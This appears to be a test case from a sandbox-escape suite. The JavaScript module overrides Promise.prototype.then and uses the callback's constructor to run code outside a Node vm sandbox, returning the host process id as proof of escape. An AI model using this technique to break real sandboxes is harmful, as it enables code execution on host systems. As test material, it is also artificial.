// Replaces then for all promises, so that the next one to wait hands over its functions.
// Class: promises
// Win: the payload holds the process id.
// Control: vm
// Platform: patchworks
module.exports = function (data) {
  if (!data.variables.attack) return { payload: data.payload };
  const { then } = Promise.prototype;
  Promise.prototype.then = function (resolve, reject) {
    const proof = resolve.constructor('return typeof process === "object" ? process.pid : ""')();
    return then.call(this, () => resolve({ payload: 'ESCAPED:' + proof }), reject);
  };
  return Promise.resolve({ payload: data.payload });
};
